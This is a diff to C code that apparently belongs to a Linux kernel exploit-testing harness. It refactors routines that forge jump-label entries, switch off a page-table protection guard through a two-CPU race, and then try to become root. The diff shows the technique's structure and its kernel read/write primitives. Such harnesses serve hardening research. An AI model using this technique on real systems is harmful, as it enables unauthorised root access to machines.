@@ -20,9 +20,7 @@
 #include "patching.h"
 
 #ifdef __x86_64__
-#define SCRATCH		"modprobe_path"	/* near text, and long enough */
-#define SCRATCH_USED	64		/* by a path */
-#define ENTRY_SIZE	16
+#define ENTRY_SIZE	sizeof(struct jump_entry)
 #define ENTRY_FLAGS	3UL
 #define GUARD_KEY	"kpkeys_pgtables_key"
 #define ASKED		"arch_jump_label_transform_queue"
@@ -35,36 +33,11 @@
 #define PATIENCE	300		/* pauses */
 #define TRIES		3
 
-struct entry {
-	int code, target;
-	uint64_t key;
-};
-
 static struct {
 	uint64_t own, guard, forged, code, target, key, state;
 	uint64_t to;			/* what the entry is changed to */
 	unsigned int running;
 } jump;
-
-static void switch_key(void)
-{
-	static int fd = -1;
-
-	if (fd < 0) {
-		fd = switch_on();
-		return;
-	}
-	close(fd);
-	fd = -1;
-}
-
-static uint64_t code_of(uint64_t at)
-{
-	int code = 0;
-
-	kread(at, &code, sizeof(code));
-	return at + code;
-}
 
 static unsigned char first_byte(uint64_t at)
 {
@@ -84,7 +57,7 @@ static uint64_t find_guard(const char *function, size_t length)
 {
 	uint64_t at = ksymbol("__start___jump_table"), stop = ksymbol("__stop___jump_table");
 	uint64_t key = ksymbol(GUARD_KEY), from = ksymbol(function);
-	struct entry entries[256];
+	struct jump_entry entries[256];
 	size_t i, nr;
 
 	for (; at && key && from && at < stop; at += nr * ENTRY_SIZE) {
@@ -151,16 +124,11 @@ static bool prepare(void)
 	jump.own = patched_entry();
 	jump.code = find_code();
 	jump.target = find_target();
-	jump.forged = ksymbol(SCRATCH) + SCRATCH_USED;
+	jump.forged = room_near_text();
 	jump.running = 0;
-	if (!jump.key || kread64(jump.key) || !jump.code || !jump.target || !ksymbol(SCRATCH))
+	if (!jump.key || kread64(jump.key) || !jump.code || !jump.target || !jump.forged)
 		return false;
 	return !write_entry(jump.forged, jump.code, jump.target, jump.key);
-}
-
-static void clear_entry(void)
-{
-	kwrite(jump.forged, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", ENTRY_SIZE);
 }
 
 static enum outcome become_root(const char *how)
@@ -187,22 +155,22 @@ enum outcome jump_guard(void)
 
 	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
 		return skipped("needs a second CPU");
-	held_start(switch_key);
+	held_start(switch_over);
 	jump.guard = guarded ? find_guard(ASKED, ASKED_LENGTH) : 0;
 	if (!prepare() || (guarded && !jump.guard))
 		return broken("no static key, no room, no guard, or no place that can be patched");
 	if (guarded) {
 		held_ask();
 		settle();
-		if (!is_jump(code_of(jump.guard)))
+		if (!is_jump(entry_code(jump.guard)))
 			return broken("the guard is off already");
 		if (!turn(jump.guard, &way))
 			return broken("nobody waited with the entry (off)");
-		if (is_jump(code_of(jump.guard)))
+		if (is_jump(entry_code(jump.guard)))
 			return lost("the guard is still on");
 	}
 	snprintf(how, sizeof(how), "the guard at 0x%lx is off, and a forged entry was believed",
-		 guarded ? code_of(jump.guard) : 0);
+		 guarded ? entry_code(jump.guard) : 0);
 	if (!turn(jump.forged, &way))
 		return broken("nobody waited with the entry (on)");
 	outcome = become_root(how);
@@ -217,7 +185,7 @@ enum outcome jump_guard(void)
 		settle();
 	}
 	held_stop();
-	clear_entry();
+	clear_entry(jump.forged);
 	return outcome;
 }
 
@@ -241,7 +209,7 @@ enum outcome jump_booting(void)
 
 	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
 		return skipped("needs a second CPU");
-	held_start(switch_key);
+	held_start(switch_over);
 	jump.state = ksymbol(STATE);
 	if (!prepare() || !jump.state || !ksymbol(EARLY))
 		return broken("no static key, no room, or no place that can be patched");
@@ -254,7 +222,7 @@ enum outcome jump_booting(void)
 		held_ask();
 	settle();
 	held_stop();
-	clear_entry();
+	clear_entry(jump.forged);
 	return outcome;
 }
 #else
